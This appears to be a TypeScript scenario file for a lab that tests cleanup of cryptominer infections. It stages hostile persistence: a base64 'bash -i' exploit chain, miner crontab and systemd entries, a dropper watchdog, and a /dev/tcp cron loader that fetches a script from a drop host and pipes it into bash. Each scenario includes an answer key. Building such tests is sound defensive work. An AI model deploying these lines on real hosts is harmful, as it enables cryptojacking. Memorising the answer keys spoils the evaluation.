import { world } from '../../lab/addresses.ts';
import type { Scenario } from './scenario.ts';
import { addCron, dropHost, minerWords, serving } from './words.ts';

/** A service that hands its requests to a shell, as an exploited one does. */
const exploited = (port: number, shell: string): string =>
  serving(port, `if ($line =~ /go/) { if (!fork) { close $s; close $c; exec ${shell}; } }`);

const ask = (port: number): string =>
  `n=0; until curl -s -o /dev/null http://127.0.0.1:${port}/go || [ $n -gt 200 ]; do n=$((n + 1)); sleep 0.05; done`;

const encoded = (text: string): string => Buffer.from(text).toString('base64');

/** Services that were made to run a miner, each under its own account and with the words of its own exploit. */
export const services: readonly Scenario[] = [
  {
    name: 'an application server that was sent a Log4Shell payload',
    report: '`bash -c {echo,BASE64}|{base64,-d}|{bash,-i}` below java; the server goes on serving.',
    accounts: ['tomcat'],
    images: [{ path: '/tmp/.tomcat/agetty', owner: 'tomcat' }],
    files: {
      '/opt/tomcat/bin/bootstrap.jar': exploited(
        8080,
        `'/bin/bash', '-c', '{echo,${encoded('/tmp/.tomcat/agetty; true')}}|{base64,-d}|{bash,-i}'`,
      ),
    },
    start: `mkdir -p /opt/tomcat/jre/bin; cp /usr/bin/perl /opt/tomcat/jre/bin/java; printf 'jre 17\\n' >>/opt/tomcat/jre/bin/java
as tomcat /opt/tomcat/jre/bin/java /opt/tomcat/bin/bootstrap.jar
${ask(8080)}`,
    runs: ['/tmp/.tomcat/agetty', '/opt/tomcat/bin/bootstrap.jar'],
    truth: {
      verdict: ['confirmed'],
      ticked: { kill: ['/tmp/.tomcat/agetty'], delete: ['/tmp/.tomcat/agetty'], cron: [] },
      may: ['bash -i', `/bin/bash -c {echo,${encoded('/tmp/.tomcat/agetty; true')}}|{base64,-d}|{bash,-i}`],
      bystanders: ['/opt/tomcat/jre/bin/java', '/opt/tomcat/bin/bootstrap.jar'],
      ending: 'cleaned',
    },
  },
  {
    name: 'a miner below a database, as the database’s account',
    report: 'PostgreSQL: COPY … FROM PROGRAM runs a shell as postgres; the account’s crontab brings it back.',
    images: [{ path: '/var/lib/postgresql/15/pg_stat_tmp/postmaster', owner: 'postgres' }],
    files: {
      '/var/lib/postgresql/15/server.conf': exploited(
        5432,
        "'/bin/sh', '-c', '/var/lib/postgresql/15/pg_stat_tmp/postmaster; true'",
      ),
    },
    start: `mkdir -p /usr/lib/postgresql/15/bin; cp /usr/bin/perl /usr/lib/postgresql/15/bin/postgres; printf 'server\\n' >>/usr/lib/postgresql/15/bin/postgres
${addCron('postgres', ['* * * * * /var/lib/postgresql/15/pg_stat_tmp/postmaster >/dev/null 2>&1', '0 4 * * * /usr/bin/vacuumdb --all --quiet'])}
(exec setsid setpriv --reuid postgres --regid nogroup --clear-groups /usr/lib/postgresql/15/bin/postgres - </var/lib/postgresql/15/server.conf >/dev/null 2>&1) &
${ask(5432)}`,
    runs: ['/var/lib/postgresql/15/pg_stat_tmp/postmaster', '/usr/lib/postgresql/15/bin/postgres'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/lib/postgresql/15/pg_stat_tmp/postmaster'],
        delete: ['/var/lib/postgresql/15/pg_stat_tmp/postmaster'],
        cron: ['* * * * * /var/lib/postgresql/15/pg_stat_tmp/postmaster >/dev/null 2>&1'],
      },
      may: ['/bin/sh -c /var/lib/postgresql/15/pg_stat_tmp/postmaster; true'],
      bystanders: ['/usr/lib/postgresql/15/bin/postgres', '/var/lib/postgresql/15/server.conf'],
      ending: 'cleaned',
    },
  },
  {
    name: 'a terminal in the browser, and a dropper with the name of a server',
    report:
      'An agent’s open web terminal: `pgrep -x NAME || echo … | base64 -d | bash`; gunicorn beside gunicorn.',
    accounts: ['dev'],
    images: [{ path: '/home/dev/.cache/unicorn', owner: 'dev' }],
    files: {
      '/home/dev/.cache/gunicorn': {
        text: `#!/bin/bash
while sleep 1; do
  pkill -9 -f '/opt/rival/[x]mrig'
  pgrep -x unicorn >/dev/null || { cd /home/dev/.cache && nohup ./unicorn ${minerWords} >/dev/null 2>&1 & }
done
`,
        owner: 'dev',
      },
      '/srv/api/gunicorn': serving(8000),
    },
    start: `${addCron('dev', [`*/5 * * * * pgrep -x unicorn >/dev/null || echo ${encoded('/home/dev/.cache/gunicorn >/dev/null 2>&1 &\n')} | base64 -d | bash`])}
run /usr/bin/perl /srv/api/gunicorn
as dev /home/dev/.cache/gunicorn`,
    runs: ['/home/dev/.cache/unicorn', '/home/dev/.cache/gunicorn', '/srv/api/gunicorn'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/home/dev/.cache/gunicorn', '/home/dev/.cache/unicorn'],
        delete: ['/home/dev/.cache/gunicorn', '/home/dev/.cache/unicorn'],
        cron: [
          `*/5 * * * * pgrep -x unicorn >/dev/null || echo ${encoded('/home/dev/.cache/gunicorn >/dev/null 2>&1 &\n')} | base64 -d | bash`,
        ],
      },
      bystanders: ['/srv/api/gunicorn'],
      ending: 'cleaned',
    },
  },
  {
    name: 'the set-up script of a pool in an account’s home',
    report:
      'MoneroOcean’s script, run by a thief: ~/moneroocean, a line in ~/.profile, a unit where there is sudo.',
    accounts: ['build'],
    images: [{ path: '/home/build/moneroocean/xmrig', owner: 'build' }],
    files: {
      '/home/build/moneroocean/miner.sh': {
        text: `#!/bin/bash
if ! pidof xmrig >/dev/null; then
  nice /home/build/moneroocean/xmrig $*
else
  echo "Monero miner is already running in the background. Refusing to run another one."
fi
`,
        owner: 'build',
      },
      '/home/build/moneroocean/config_background.json': {
        text: `{"background": true, "donate-level": 1, "pools": [{"url": "${world.pool}:${world.poolPort}", "user": "x", "pass": "build"}]}\n`,
        owner: 'build',
      },
      '/home/build/.profile': {
        text: `# ~/.profile\n[ -n "$BASH_VERSION" ] && [ -f ~/.bashrc ] && . ~/.bashrc\n/home/build/moneroocean/miner.sh --config=/home/build/moneroocean/config_background.json >/dev/null 2>&1\n`,
        owner: 'build',
      },
      '/etc/systemd/system/moneroocean_miner.service':
        '[Unit]\nDescription=Monero miner service\n[Service]\nExecStart=/home/build/moneroocean/xmrig --config=/home/build/moneroocean/config.json\nRestart=always\nNice=10\nCPUWeight=1\n[Install]\nWantedBy=multi-user.target\n',
    },
    start:
      'as build nice /home/build/moneroocean/xmrig --config=/home/build/moneroocean/config_background.json',
    runs: ['/home/build/moneroocean/xmrig'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/home/build/moneroocean/xmrig'],
        delete: ['/home/build/moneroocean/xmrig', '/home/build/moneroocean/miner.sh'],
        cron: [],
      },
      may: ['/home/build/moneroocean/config_background.json'],
      named: ['/etc/systemd/system/moneroocean_miner.service', '/home/build/.profile'],
      bystanders: ['/home/build/.profile'],
      ending: 'partially-cleaned',
    },
  },
  {
    name: 'a script of the shop’s that fetches over TLS, and a miner that a request left behind',
    report: 'A CI job downloads and runs from a name all day; only the miner below it is the attacker’s.',
    accounts: ['ci'],
    images: [{ path: '/home/ci/_work/.tool/cc1plus', owner: 'ci' }],
    files: {
      '/home/ci/runner/run.sh': {
        text: `#!/bin/bash
while :; do
  curl -fsSL https://git.corp.example/jobs/next | bash
  sleep 1
done
`,
        owner: 'ci',
      },
    },
    start: `as ci /home/ci/runner/run.sh
as ci /home/ci/_work/.tool/cc1plus ${minerWords}`,
    runs: ['/home/ci/_work/.tool/cc1plus', '/home/ci/runner/run.sh'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/home/ci/_work/.tool/cc1plus'],
        delete: ['/home/ci/_work/.tool/cc1plus'],
        cron: [],
      },
      bystanders: ['/home/ci/runner/run.sh'],
      // The runner fetches and runs what nobody here can see: offered or named, and it stays.
      named: ['/home/ci/runner/run.sh'],
      ending: 'partially-cleaned',
    },
  },
  {
    name: 'a loader that speaks HTTP by itself',
    report: 'Hosts without curl and wget: `exec 3<>/dev/tcp/…`, run by cron and read into bash.',
    images: ['/var/tmp/.sys/rsyslogd'],
    start: `${addCron('root', [`*/10 * * * * bash -c 'exec 3<>/dev/tcp/${dropHost.replace(':', '/')}; printf "GET /b.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 | bash' >/dev/null 2>&1`, '@reboot /var/tmp/.sys/rsyslogd'])}
run /var/tmp/.sys/rsyslogd`,
    runs: ['/var/tmp/.sys/rsyslogd'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/tmp/.sys/rsyslogd'],
        delete: ['/var/tmp/.sys/rsyslogd'],
        cron: [
          `*/10 * * * * bash -c 'exec 3<>/dev/tcp/${dropHost.replace(':', '/')}; printf "GET /b.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 | bash' >/dev/null 2>&1`,
          '@reboot /var/tmp/.sys/rsyslogd',
        ],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
];
